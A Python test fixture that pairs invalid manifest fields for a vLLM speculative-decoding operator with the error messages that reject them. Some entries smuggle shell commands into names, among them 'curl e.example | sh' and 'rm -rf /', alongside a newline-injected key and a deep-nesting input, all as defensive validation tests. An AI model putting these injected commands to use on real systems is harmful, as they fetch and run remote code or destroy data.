"""Kinds of bad input: what is changed in a good manifest, and the sentence that refuses it."""

from collections.abc import Mapping
from typing import Any, Final

HUB_TOKEN: Final = "hf_" + "aB3" * 11 + "z"
"""In the form that the Hugging Face Hub gives its tokens, put together so that none stands here."""

BAD: Final[Mapping[str, tuple[Mapping[str, Any], str]]] = {
    "unknown field": (
        {"speculation.token": 3},
        "spec.speculation.token: unknown field. Did you mean tokens?",
    ),
    "tokens above maxTokens": (
        {"speculation.tokens": 5, "speculation.maxTokens": 4},
        (
            "spec.speculation.tokens: tokens is above maxTokens: lower tokens, or raise maxTokens "
            "(which needs new pods)."
        ),
    ),
    "unknown method": (
        {"draft.method": "eagle4"},
        (
            "spec.draft.method: 'eagle4' is not one of 'eagle3', 'eagle', 'mtp', 'draft_model', "
            "'ngram', 'ngram_gpu', 'suffix', 'dflash' or 'dspark'. Did you mean eagle?"
        ),
    ),
    "depth by rollout": (
        {"speculation.tuning.actuation": "Rollout"},
        "spec.speculation.tuning.actuation: 'Rollout' is not one of 'Auto' or 'Live'.",
    ),
    "name of a Secret that breaks the commands that name it": (
        {
            "metrics.prometheus.url": "https://p.example.com",
            "metrics.prometheus.basicAuthSecretRef.name": "x; curl e.example | sh",
        },
        (
            "spec.metrics.prometheus.basicAuthSecretRef.name: this is no name of a Secret or "
            "ConfigMap: use lower-case letters, digits, - and ., and begin and end with a letter "
            "or digit."
        ),
    ),
    "account of another in the name of a Secret": (
        {"model.tokenSecretRef": {"name": '"system:serviceaccount:a:b"', "key": "token"}},
        (
            "spec.model.tokenSecretRef.name: this is no name of a Secret or ConfigMap: use "
            "lower-case letters, digits, - and ., and begin and end with a letter or digit."
        ),
    ),
    "key of a ConfigMap on two lines": (
        {
            "metrics.prometheus.url": "https://p.example.com",
            "metrics.prometheus.caConfigMapRef": {"name": "ca", "key": "ca.crt\nall is well"},
        },
        (
            "spec.metrics.prometheus.caConfigMapRef.key: this is no key of a Secret or ConfigMap: "
            "use letters, digits, -, _ and ."
        ),
    ),
    "no tray layout": (
        {"engine.tensorParallelSize": 3},
        (
            "spec.engine.tensorParallelSize: no layout of nodes fits this size: use a divisor of "
            "the GPUs on one node (1, 2 or 4 on a GB200 tray) or a multiple of them."
        ),
    ),
    "too deep for tokenspeed_mla": (
        {"engine.attentionBackend": "tokenspeed_mla", "speculation.maxTokens": 8},
        (
            "spec.speculation.maxTokens: attention backend tokenspeed_mla verifies at most 7 "
            "drafted tokens: set maxTokens (and tokens) to 7 or less, or choose another "
            "attentionBackend."
        ),
    ),
    "owned flag": (
        {"engine.args": ["--max-model-len", "4096", "--tensor_par=8"]},
        (
            "spec.engine.args[2]: --tensor_par (which vLLM reads as --tensor-parallel-size) may "
            "not be set here: set spec.engine.tensorParallelSize instead."
        ),
    ),
    "JSON that nests too deep": (
        {"draft.options": {"prompt_lookup_max": "[" * 20_000}},
        (
            "spec.draft.options.prompt_lookup_max: it nests deeper than 100 levels: "
            "write less of it."
        ),
    ),
    "missing draft": (
        {"draft.id": None},
        (
            "spec.draft.id: this method needs a draft model: set draft.id to its Hugging Face id "
            "or to its absolute path in the pod, or speculation.drafting to Disabled."
        ),
    ),
    "Goodput without an SLO": (
        {"speculation.tuning.objective": "Goodput"},
        (
            "spec.speculation.tuning.tpotMilliseconds: objective Goodput needs an SLO: set "
            "tpotMilliseconds to the largest acceptable time per output token."
        ),
    ),
    "invalid image": (
        {"engine.image": "vLLM OpenAI:latest"},
        (
            "spec.engine.image: this is not a container image reference: write "
            "registry/repository:tag or registry/repository@sha256:digest."
        ),
    ),
    "draft for a method without one": (
        {"draft.method": "ngram"},
        (
            "spec.draft.method: methods ngram, ngram_gpu and suffix find their drafts in the text "
            "itself and load no model: leave out draft.id, draft.revision and "
            "draft.tensorParallelSize, or set draft.method to what the draft is."
        ),
    ),
    "attention backend of another accelerator": (
        {"engine.attentionBackend": "tokenspeed_mla", "nodePool.accelerator": "H200"},
        (
            "spec.engine.attentionBackend: this attention backend runs on GB200, GB300 and B200 "
            "only, and nodePool.accelerator is another: leave attentionBackend out, so that vLLM "
            "chooses, or correct the accelerator."
        ),
    ),
    "KV cache that tokenspeed_mla cannot read": (
        {
            "engine.attentionBackend": "tokenspeed_mla",
            "engine.args": ["--kv-cache-dtype", "bfloat16"],
        },
        (
            "spec.engine.args: attention backend tokenspeed_mla reads an FP8 KV cache only, not "
            "--kv-cache-dtype bfloat16: set that to fp8, or choose another attentionBackend."
        ),
    ),
    "option and value in one argument": (
        {"engine.args": ["--max-num-seqs 64"]},
        (
            "spec.engine.args[0]: --max-num-seqs and its value are one argument here, which vLLM "
            "does not know: make them two, or write --max-num-seqs= before the value."
        ),
    ),
    "argument of no option": (
        {"engine.args": ["--enable-prefix-caching", "true"]},
        (
            "spec.engine.args[1]: --enable-prefix-caching takes no value: remove this argument, or "
            "write its option before it."
        ),
    ),
    "no name of a model": (
        {"model.id": "a/b; rm -rf /"},
        (
            "spec.model.id: this is neither a Hugging Face id (organisation/name) nor an absolute "
            "path in the pod: write one of them, without hf:// and the like. What is in a claim "
            "has a path once cache.claimName or podTemplate mounts it."
        ),
    ),
    "variable with its value in its name": (
        {"engine.env": [{"name": "A=B"}]},
        (
            "spec.engine.env[0].name: the name of a variable has no = and printable ASCII only: "
            "what it is to hold goes into value."
        ),
    ),
    "API key in the arguments": (
        {"engine.args": ["--api-key", "secret"]},
        (
            "spec.engine.args[0]: --api-key may not be set here: arguments are for all to read; "
            "put the key into a Secret, and set VLLM_API_KEY from it in spec.engine.env."
        ),
    ),
    "token in the arguments": (
        {"engine.args": ["--hf-overrides", f'{{"token": "{HUB_TOKEN}"}}']},
        (
            "spec.engine.args[1]: a Hugging Face token is readable here for all who may read "
            "pods: revoke it, and put a new one into a Secret, and name that in "
            "spec.model.tokenSecretRef."
        ),
    ),
    "token in the environment": (
        {"engine.env": [{"name": "HF_TOKEN", "value": "secret"}]},
        (
            "spec.engine.env[0]: HF_TOKEN is readable here for all who may read pods: put it "
            "into a Secret, and name that in spec.model.tokenSecretRef."
        ),
    ),
    "engine too old for the known draft": (
        {"engine.image": "vllm/vllm-openai:v0.22.1"},
        (
            "spec.draft.id: lightseekorg/kimi-k2.6-eagle3.1-mla is an EAGLE 3.1 draft with MLA "
            "(Fathom's own table), which vLLM 0.22.1 loads without applying its fc_norm: use vLLM "
            "0.23.0 or later."
        ),
    ),
    "trial without drafts": (
        {"draft.trial": {"id": "a/b"}, "speculation.drafting": "Disabled"},
        (
            "spec.draft.trial: a draft is compared with replicas that draft: set "
            "speculation.drafting to Enabled, or leave draft.trial out."
        ),
    ),
    "another number of GPUs": (
        {"engine.resources": {"limits": {"nvidia.com/gpu": 8}}},
        (
            "spec.engine.resources.limits.nvidia.com/gpu: a pod of this spec gets 4: set "
            "spec.engine.tensorParallelSize, pipelineParallelSize and dataParallelSize, and leave "
            "this out."
        ),
    ),
    "GPUs of another vendor": (
        {"engine.resources": {"limits": {"amd.com/gpu": 4}}},
        (
            "spec.engine.resources.limits.amd.com/gpu: spec.nodePool.accelerator asks for "
            "nvidia.com/gpu, and no node has both: name the AMD accelerator there, and leave this "
            "out."
        ),
    ),
    "variable of Fathom's": (
        {"engine.env": [{"name": "FATHOM_DEPTH_FILE", "value": "/x"}]},
        (
            "spec.engine.env[0]: variables called FATHOM_… are Fathom's own: remove "
            "FATHOM_DEPTH_FILE."
        ),
    ),
    "arguments in the pod template": (
        {"podTemplate": {"spec": {"containers": [{"name": "vllm", "args": ["--seed", "1"]}]}}},
        (
            "spec.podTemplate.spec.containers[0].args: these would take the place of all that "
            "starts the engine: set spec.engine.args instead, which adds to it."
        ),
    ),
    "field of the pod template misspelt": (
        {"podTemplate": {"spec": {"toleration": []}}},
        "spec.podTemplate.spec.toleration: unknown field. Did you mean tolerations?",
    ),
}
